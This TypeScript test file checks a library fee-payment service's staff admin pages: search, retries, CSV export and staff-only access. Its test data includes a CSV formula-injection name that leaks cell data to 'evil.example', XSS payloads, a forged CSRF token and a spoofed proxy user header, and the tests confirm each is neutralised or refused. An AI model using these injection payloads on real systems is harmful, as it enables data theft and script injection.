// The staff pages over real HTTP, through the EZproxy stand-in, against the Alma and CashNet sandboxes: find a
// payment, see why it needs attention, retry it once the cause is fixed; only ADMIN_USERS get in.

import { parse } from 'csv-parse/sync'
import t from 'tap'
import { cents } from '../src/money.ts'
import { type Answer, Browser, build, checkoutIdFrom, readForm, send, type TestStack, UNTRUSTED_PEER, until } from './helper.ts'

/** A patron pays all their fees on CashNet; returns the checkout id and the tx CashNet reported. */
async function pay (stack: TestStack, username: string): Promise<{ id: string, tx: string }> {
  const patron = new Browser(stack).login(username)
  const { fields, action } = await patron.checkout()
  const id = checkoutIdFrom(fields)
  if (id === '') throw new Error(`${username}: checkout was refused`)
  await patron.payOnCashnet(action, fields)
  const sent = stack.cashnet.sent.find(s => Object.values(s.fields).includes(id))
  if (sent === undefined) throw new Error(`no postback was sent for ${id}`)
  return { id, tx: sent.fields.tx }
}

/** A patron starts a checkout and leaves before CashNet: a CREATED row. */
async function start (stack: TestStack, username: string): Promise<string> {
  const { fields } = await new Browser(stack).login(username).checkout()
  return checkoutIdFrom(fields)
}

/** Carol pays a fee that staff closed in Alma meanwhile: paid at CashNet, nothing to apply, NEEDS_ATTENTION. */
async function unapplicable (stack: TestStack): Promise<string> {
  const carol = new Browser(stack).login('carol')
  const { fields, action } = await carol.checkout()
  const id = checkoutIdFrom(fields)
  stack.alma.closeFee('300001')
  await carol.payOnCashnet(action, fields)
  await until(async () => await state(stack, id) === 'NEEDS_ATTENTION', 'the payment to need attention')
  return id
}

async function state (stack: TestStack, id: string): Promise<string | undefined> {
  return (await stack.app.ledger.getCheckout(id))?.state
}

/** The <tbody> rows of the payments table: one string per row. */
function rows (page: Answer): string[] {
  const body = /<table class="admin">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(page.body)?.[1] ?? ''
  return body.split('</tr>').filter(r => r.includes('<td>') && !r.includes('No payments match'))
}

t.test('staff find a payment by tx, see why it needs attention, retry after the fix, and it ends POSTED', async t => {
  const stack = await build(t)
  const alice = new Browser(stack).login('alice')
  const { fields, action } = await alice.checkout()
  const id = checkoutIdFrom(fields)
  // Alma refuses with a business error (400), which is not retried blindly: the payment goes to staff.
  stack.alma.faults.failStatus = 400
  stack.alma.faults.failNext = 1000
  await alice.payOnCashnet(action, fields)
  await until(async () => await state(stack, id) === 'NEEDS_ATTENTION', 'the payment to need attention')
  const tx = stack.cashnet.sent.at(-1)?.fields.tx ?? ''
  t.not(tx, '', 'CashNet reported a tx')
  t.same(stack.alma.paymentsFor(tx), [], 'Alma has recorded nothing yet')

  const staff = new Browser(stack).login('staff')
  const list = await staff.get(`/admin?q=${tx}`)
  t.equal(list.status, 200)
  t.match(list.headers['cache-control'], /no-store/)
  t.equal(rows(list).length, 1, 'the tx finds exactly one payment')
  t.match(rows(list)[0], id)
  t.match(rows(list)[0], 'Needs attention', 'state shown as text')
  t.match(rows(list)[0], '60101', 'the reason names Alma’s errorCode')
  t.match(list.body, /<th scope="col">State<\/th>/, 'a real table with headers')

  const link = /href="(admin\/payments\/[0-9a-f]+)"/.exec(rows(list)[0])?.[1] ?? ''
  t.equal(link, `admin/payments/${id}`, 'relative link to the payment')
  const detail = await staff.get(`/${link}`)
  t.equal(detail.status, 200)
  t.match(detail.body, /Needs attention because: <\/strong><span class="attention-reason">Alma refused: 60101 General Error/)
  t.match(detail.body, /<td>400<\/td><td>60101<\/td><td>General Error: An error has occurred while processing the request.<\/td><td>E01-SANDBOX-\d+<\/td>/, 'the Alma call with status, errorCode, errorMessage and trackingId')
  t.match(detail.body, 'Postback 1: PAID', 'the postback and its outcome')
  t.match(detail.body, new RegExp(`<pre aria-label="Raw body of postback 1">[^<]*tx=${tx}`), 'the raw body of the postback')
  t.match(detail.body, 'payment.needs_attention', 'the audit event')
  t.match(detail.body, 'href="../../assets/style.css"', 'relative links from depth 2')
  const retryForm = readForm(detail.body.slice(detail.body.indexOf('<form class="retry"')))
  t.equal(retryForm.action, `${id}/retry`)

  // Without the CSRF token the retry is refused and nothing moves.
  const forged = await staff.post(`/admin/payments/${id}/retry`, {})
  t.equal(forged.status, 403, 'retry without a CSRF token is refused')
  t.ok(stack.logLines().some(l => l.event === 'access.csrf' && l.user === 'staff'), 'refused by the CSRF check, not for access')
  t.equal(await state(stack, id), 'NEEDS_ATTENTION')

  // Staff fix the cause (Alma answers again) and retry.
  stack.alma.faults.failNext = 0
  const retried = await staff.post(`/admin/payments/${id}/retry`, retryForm.fields)
  t.equal(retried.status, 303, 'the retry redirects back to the payment')
  t.equal(retried.headers.location, `../${id}?retried=1`)
  await stack.app.worker.idle()
  await until(async () => await state(stack, id) === 'POSTED', 'the payment to be posted')

  t.same(stack.alma.paymentsFor(tx).sort((a, b) => a.feeId.localeCompare(b.feeId)), [
    { feeId: '100001', amountCents: 500 },
    { feeId: '100002', amountCents: 4550 },
    { feeId: '100003', amountCents: 1225 }
  ], 'Alma recorded each fee paid once, in full, with this tx')
  const after = await staff.follow(retried, new URL(`/admin/payments/${id}/retry`, stack.publicUrl).toString())
  t.equal(after.status, 200)
  t.match(after.body, 'Posted to Alma')
  t.match(after.body, /staff asked to retry posting by staff<\/td><td>NEEDS_ATTENTION → PAID<\/td><td><details><summary>Raw event<\/summary><code>posting\.retry_requested<\/code> <code class="detail">\{&quot;by&quot;:&quot;staff&quot;\}/, 'the audit trail names the staff member, in words, the raw event one click away')
  t.notMatch(after.body, '<form class="retry"', 'no retry button once posted')
  const logged = stack.logLines().find(l => l.event === 'admin.retry')
  t.match(logged, { checkout: id, tx, by: 'staff', user: 'staff', from: 'NEEDS_ATTENTION' }, 'admin.retry is logged with the staff user')

  // Retrying a posted payment does nothing.
  const again = await staff.post(`/admin/payments/${id}/retry`, retryForm.fields)
  t.equal(again.status, 409)
  t.equal(stack.alma.paymentsFor(tx).length, 3, 'still paid once')
  const unknown = await staff.post('/admin/payments/does-not-exist/retry', retryForm.fields)
  t.equal(unknown.status, 404, 'no retry of an unknown payment')
})

t.test('a stuck PAID payment can be retried too', async t => {
  const stack = await build(t, { env: { POSTING_MAX_ATTEMPTS: '50', POSTING_RETRY_BASE_MS: '60000', POSTING_RETRY_MAX_MS: '600000' } })
  const carol = new Browser(stack).login('carol')
  const { fields, action } = await carol.checkout()
  const id = checkoutIdFrom(fields)
  stack.alma.faults.failStatus = 503
  stack.alma.faults.failNext = 1
  await carol.payOnCashnet(action, fields)
  await until(async () => ((await stack.app.ledger.getCheckout(id))?.attempts ?? 0) > 0, 'a failed attempt')
  t.equal(await state(stack, id), 'PAID', 'waiting a long backoff')
  const tx = stack.cashnet.sent.at(-1)?.fields.tx ?? ''

  const staff = new Browser(stack).login('staff')
  const list = await staff.get('/admin?state=PAID')
  t.equal(rows(list).length, 1)
  t.match(rows(list)[0], 'Paid, not yet in Alma')
  t.match(rows(list)[0], /1 attempt\(s\) failed; last: .*503/)
  const detail = await staff.get(`/admin/payments/${id}`)
  const retryForm = readForm(detail.body.slice(detail.body.indexOf('<form class="retry"')))
  const retried = await staff.post(`/admin/payments/${id}/retry`, retryForm.fields)
  t.equal(retried.status, 303)
  await until(async () => await state(stack, id) === 'POSTED', 'the payment to be posted')
  t.same(stack.alma.paymentsFor(tx), [{ feeId: '300001', amountCents: 250 }])
})

t.test('search by checkout id, username, name and tx; state filter with counts; pagination', async t => {
  const stack = await build(t)
  const paid = await pay(stack, 'carol')
  await until(async () => await state(stack, paid.id) === 'POSTED', 'carol posted')
  const started = await start(stack, 'zoe')
  const alsoStarted = await start(stack, 'alice')
  const staff = new Browser(stack).login('staff')

  const all = await staff.get('/admin')
  t.equal(rows(all).length, 3)
  t.ok(rows(all)[0].includes(alsoStarted) && rows(all)[2].includes(paid.id), 'newest first')
  t.match(all.body, /value="POSTED"> Posted to Alma \(1\)/, 'count per state')
  t.match(all.body, /value="CREATED"> Started, not paid \(2\)/)

  const byId = await staff.get(`/admin?q=${started}`)
  t.equal(rows(byId).length, 1)
  t.match(rows(byId)[0], started)
  const byUser = await staff.get('/admin?q=carol')
  t.equal(rows(byUser).length, 1)
  t.match(rows(byUser)[0], paid.id)
  const byName = await staff.get(`/admin?q=${encodeURIComponent('Ångström')}`)
  t.equal(rows(byName).length, 1, 'a part of a non-ASCII name')
  t.match(rows(byName)[0], 'Zoë Ångström-Núñez')
  const byTx = await staff.get(`/admin?q=${paid.tx}`)
  t.equal(rows(byTx).length, 1)
  const none = await staff.get('/admin?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E')
  t.equal(rows(none).length, 0)
  t.notMatch(none.body, '<script>alert(1)</script>', 'the search is echoed escaped')
  t.match(none.body, 'value="&lt;script&gt;alert(1)&lt;/script&gt;"')

  const posted = await staff.get('/admin?state=POSTED')
  t.equal(rows(posted).length, 1)
  t.match(rows(posted)[0], 'Posted to Alma')
  t.match(posted.body, 'value="POSTED" checked')
  const two = await staff.get('/admin?state=POSTED&state=CREATED')
  t.equal(rows(two).length, 3, 'several states at once')
  const createdOnlyZoe = await staff.get('/admin?state=CREATED&q=zoe')
  t.equal(rows(createdOnlyZoe).length, 1, 'state and search together')
  const bogus = await staff.get('/admin?state=NOPE&page=abc')
  t.equal(bogus.status, 200, 'unknown filters are ignored')
  t.equal(rows(bogus).length, 3)

  // Pagination: 50 a page, links keep the filters.
  for (let i = 0; i < 50; i++) await stack.app.ledger.createCheckout({ id: `bulk${String(i).padStart(3, '0')}`, userId: 'bulk', primaryId: 'bulk', patronName: 'Bulk Patron', email: '', currency: 'USD', lines: [{ lineNo: 1, feeId: 'f', feeType: 'OVERDUEFINE', feeTypeDesc: 'Overdue fine', owner: 'MAIN', ownerDesc: 'Main', title: '', itemCode: 'LIB-FINE', amount: cents(100) }] })
  const first = await staff.get('/admin?state=CREATED')
  t.equal(rows(first).length, 50)
  t.match(first.body, 'page 1 of 2')
  t.match(first.body, 'href="admin?state=CREATED&amp;page=2"')
  const second = await staff.get('/admin?state=CREATED&page=2')
  t.equal(rows(second).length, 2)
  t.match(second.body, 'href="admin?state=CREATED"', 'a link back to the first page')
  const beyond = await staff.get('/admin?state=CREATED&page=99')
  t.equal(rows(beyond).length, 2, 'a page past the end shows the last page')
})

t.test('the CSV has the filtered rows, decimal amounts and no live formulas', async t => {
  const stack = await build(t)
  stack.alma.addUser({
    primaryId: 'mallory',
    firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    lastName: '<img src=x onerror=alert(1)>',
    email: 'mallory@example.edu',
    userGroup: 'UG',
    identifiers: [],
    blocks: [],
    fees: [{ id: '700001', type: 'OVERDUEFINE', typeDesc: 'Overdue fine', balance: '3.10', owner: 'MAIN', ownerDesc: 'Main Library', title: '@SUM(1+1)', barcode: '', created: '2026-10-01T14:30:00Z' }],
    story: 'hostile name'
  })
  const paid = await pay(stack, 'carol')
  await until(async () => await state(stack, paid.id) === 'POSTED', 'carol posted')
  const mallory = await start(stack, 'mallory')
  const staff = new Browser(stack).login('staff')

  const list = await staff.get('/admin')
  t.notMatch(list.body, '<img src=x', 'a hostile name is shown as text')
  t.match(list.body, '&lt;img src=x onerror=alert(1)&gt;')
  t.match(list.body, 'href="admin/payments.csv"', 'a relative link to the CSV')

  const csv = await staff.get('/admin/payments.csv')
  t.equal(csv.status, 200)
  t.match(csv.headers['content-type'], /^text\/csv/)
  t.match(csv.headers['content-disposition'], /^attachment; filename="payments-\d{4}-\d{2}-\d{2}\.csv"$/)
  t.match(csv.headers['cache-control'], /no-store/)
  const records = parse(csv.body, { columns: true }) as Array<Record<string, string>>
  t.equal(records.length, 2)
  const byId = new Map(records.map(r => [r.checkout_id, r]))
  t.match(byId.get(paid.id), { state: 'POSTED', username: 'carol', total: '2.50', unapplied: '0.00', tx: paid.tx, currency: 'USD' })
  const hostile = byId.get(mallory)
  t.equal(hostile?.state, 'CREATED')
  t.equal(hostile?.total, '3.10')
  t.ok(hostile?.patron_name.startsWith('\'=HYPERLINK('), 'the formula is neutralised with a leading quote')
  t.notOk(Object.values(hostile ?? {}).some(v => /^[=+\-@]/.test(v)), 'no cell starts a formula')

  const filtered = parse((await staff.get('/admin/payments.csv?state=POSTED')).body, { columns: true }) as Array<Record<string, string>>
  t.same(filtered.map(r => r.checkout_id), [paid.id], 'the state filter applies to the CSV')
  const searched = parse((await staff.get('/admin/payments.csv?q=mallory')).body, { columns: true }) as Array<Record<string, string>>
  t.same(searched.map(r => r.checkout_id), [mallory], 'the search applies to the CSV')
  t.ok(stack.logLines().some(l => l.event === 'admin.export' && l.user === 'staff'), 'the download is logged')
})

t.test('the CSV ends with what the provider reported receiving: the money format, empty where nothing was received', async t => {
  const stack = await build(t)
  const paid = await pay(stack, 'carol')
  await until(async () => await state(stack, paid.id) === 'POSTED', 'carol posted')
  // alice's checkout is for all her fees; CashNet reports taking 0.03 for it: a mismatch, for staff
  const short = await start(stack, 'alice')
  await stack.cashnet.sendPostback({ result: '0', tx: '777001', itemcnt: '1', itemcode1: 'LIB-FINE', amount1: '0.03', ref1type1: 'ALMACHECKOUT', ref1val1: short })
  t.equal(await state(stack, short), 'NEEDS_ATTENTION')
  const zoe = new Browser(stack).login('zoe')
  const declined = await zoe.checkout()
  await zoe.payOnCashnet(declined.action, declined.fields, 'decline')
  const abandoned = await start(stack, 'erin')

  const staff = new Browser(stack).login('staff')
  const ledger = stack.app.ledger as unknown as Record<string, unknown>
  ledger.moneyRecord = () => { throw new Error('a money record per row') }
  const csv = await staff.get('/admin/payments.csv')
  delete ledger.moneyRecord
  t.equal(csv.status, 200)
  const [header, ...lines] = parse(csv.body) as string[][]
  t.same(header, ['checkout_id', 'created_at', 'state', 'username', 'primary_id', 'patron_name', 'currency', 'total', 'unapplied',
    'tx', 'batchno', 'paid_at', 'posted_at', 'attempts', 'attention', 'received'], 'the earlier columns keep their places; received comes last')
  t.ok(lines.every(l => l.length === header.length), 'every row has every column')
  const byId = new Map((parse(csv.body, { columns: true }) as Array<Record<string, string>>).map(r => [r.checkout_id, r]))
  t.equal(byId.get(paid.id)?.received, byId.get(paid.id)?.total, 'paid in full: what was received is the total')
  t.match(byId.get(paid.id), { received: '2.50', total: '2.50' })
  t.match(byId.get(short), { state: 'NEEDS_ATTENTION', received: '0.03' }, 'a short payment: what CashNet reported, not the total')
  t.not(byId.get(short)?.total, '0.03')
  t.equal(byId.get(checkoutIdFrom(declined.fields))?.received, '', 'declined: nothing received')
  t.equal(byId.get(abandoned)?.received, '', 'never paid: nothing received')
})

t.test('unmatched postbacks are listed for staff with their raw bodies, escaped', async t => {
  const stack = await build(t)
  const paid = await pay(stack, 'carol')
  const template = stack.cashnet.sent.find(s => s.fields.tx === paid.tx)?.fields ?? {}
  const orphanRef = Object.keys(template).find(k => template[k] === paid.id) ?? 'ref1val1'
  await stack.cashnet.sendPostback({ ...template, [orphanRef]: 'f'.repeat(32), tx: '999001' })
  await stack.cashnet.sendPostback({ result: '0', tx: '<script>alert(1)</script>' })
  const staff = new Browser(stack).login('staff')
  const list = await staff.get('/admin')
  t.match(list.body, /<strong>2<\/strong> CashNet postback\(s\) matched no checkout/)
  const page = await staff.get('/admin/postbacks')
  t.equal(page.status, 200)
  t.match(page.body, /Postback \d+: ORPHAN/)
  t.match(page.body, /Postback \d+: REJECTED/)
  t.match(page.body, 'tx=999001')
  t.notMatch(page.body, '<script>alert(1)</script>')
  t.match(page.body, 'href="../assets/style.css"')
})

t.test('only ADMIN_USERS through EZproxy reach the staff pages', async t => {
  const stack = await build(t)
  const paid = await pay(stack, 'carol')
  const patron = new Browser(stack).login('carol')
  for (const path of ['/admin', `/admin/payments/${paid.id}`, '/admin/payments.csv', '/admin/postbacks']) {
    const answer = await patron.get(path)
    t.equal(answer.status, 403, `a patron gets 403 on GET ${path}`)
    t.match(answer.body, 'Staff only')
    t.notMatch(answer.body, paid.tx, 'and sees nothing of the payment')
  }
  const retry = await patron.post(`/admin/payments/${paid.id}/retry`, {})
  t.equal(retry.status, 403, 'a patron gets 403 on the retry')

  // Staff, but not through EZproxy: an untrusted peer sending the user header itself.
  const direct = await send(`${stack.serviceUrl}/admin`, { from: UNTRUSTED_PEER, headers: { 'x-ezproxy-user': 'staff' } })
  t.equal(direct.status, 403)
  t.notMatch(direct.body, paid.id)

  const staff = new Browser(stack).login('staff')
  t.equal((await staff.get('/admin')).status, 200)
  const missing = await staff.get('/admin/payments/does-not-exist')
  t.equal(missing.status, 404)
  t.match(missing.body, 'No such payment')
})

t.test('money that could not be applied is not offered for a pointless retry', async t => {
  const stack = await build(t)
  const id = await unapplicable(stack)
  const tx = stack.cashnet.sent.at(-1)?.fields.tx ?? ''
  const staff = new Browser(stack).login('staff')
  const detail = await staff.get(`/admin/payments/${id}`)
  t.match(detail.body, /Needs attention because: <\/strong><span class="attention-reason">2\.50 could not be applied in Alma/)
  t.match(detail.body, /<dt>Unapplied<\/dt><dd><strong>\$2\.50<\/strong>/)
  t.notMatch(detail.body, '<form class="retry"')
  t.match(detail.body, 'Refund the unapplied amount')
  t.same(stack.alma.paymentsFor(tx), [], 'nothing was sent to Alma as an overpayment')
})

t.test('staff settle money that could not be applied: it leaves the attention list and reconciliation', async t => {
  const stack = await build(t)
  const id = await unapplicable(stack)
  const { reconcile } = await import('../src/jobs/reconcile.ts')
  const before = await reconcile({ ledger: stack.app.ledger, alma: stack.app.alma, since: new Date(Date.now() - 3600_000) })
  t.ok(before.findings.some(f => f.checkoutId === id), 'reconciliation reports it while it is open')

  const staff = new Browser(stack).login('staff')
  const list = await staff.get('/admin')
  t.match(list.body, /<strong>1<\/strong> payment\(s\) need attention/)
  const detail = await staff.get(`/admin/payments/${id}`)
  const settle = readForm(detail.body.slice(detail.body.indexOf('<form class="resolve"')))
  t.match(settle.action, `${id}/resolve`)

  const forged = await staff.post(`/admin/payments/${id}/resolve`, [['_csrf', 'forged'], ['resolution', 'refunded']])
  t.equal(forged.status, 403, 'CSRF-protected')
  const empty = await staff.post(`/admin/payments/${id}/resolve`, [...settle.fields, ['resolution', '   ']])
  t.equal(empty.status, 400, 'a note is required')
  t.equal((await stack.app.ledger.getCheckout(id))?.resolvedAt, null)

  const done = await staff.post(`/admin/payments/${id}/resolve`, [...settle.fields, ['resolution', 'Refunded 2.50 in CashNet <b>ref 77</b>']])
  t.equal(done.status, 303)
  const settled = await stack.app.ledger.getCheckout(id)
  t.equal(settled?.state, 'NEEDS_ATTENTION', 'the state stays as SPEC names it')
  t.equal(settled?.resolvedBy, 'staff')
  t.equal(settled?.resolution, 'Refunded 2.50 in CashNet <b>ref 77</b>')
  const page = await staff.get(`/admin/payments/${id}`)
  t.match(page.body, 'Refunded 2.50 in CashNet &lt;b&gt;ref 77&lt;/b&gt;', 'the note is shown, escaped')
  t.notMatch(page.body, '<form class="resolve"')
  t.notMatch((await staff.get('/admin')).body, 'payment(s) need attention', 'no longer counted as open')
  t.ok(stack.logLines().some(l => l.event === 'admin.resolved' && l.checkout === id && l.by === 'staff'))
  t.ok((await stack.app.ledger.history(id))?.events.some(e => e.event === 'attention.resolved'), 'kept in the audit trail')
  const again = await staff.post(`/admin/payments/${id}/resolve`, [...settle.fields, ['resolution', 'twice']])
  t.equal(again.status, 409)

  const after = await reconcile({ ledger: stack.app.ledger, alma: stack.app.alma, since: new Date(Date.now() - 3600_000) })
  t.notOk(after.findings.some(f => f.checkoutId === id), 'reconciliation no longer reports it')

  const second = await stack.cashnet.sendPostback({ result: '0', tx: '888888', itemcnt: '1', itemcode1: 'LIB-FINE', amount1: '2.50', ref1type1: 'ALMACHECKOUT', ref1val1: id })
  t.equal(second.status, 200)
  t.equal((await stack.app.ledger.getCheckout(id))?.resolvedAt, null, 'a new double charge reopens it')
  t.match((await stack.app.ledger.getCheckout(id))?.attentionReason, 'second CashNet transaction 888888')
})
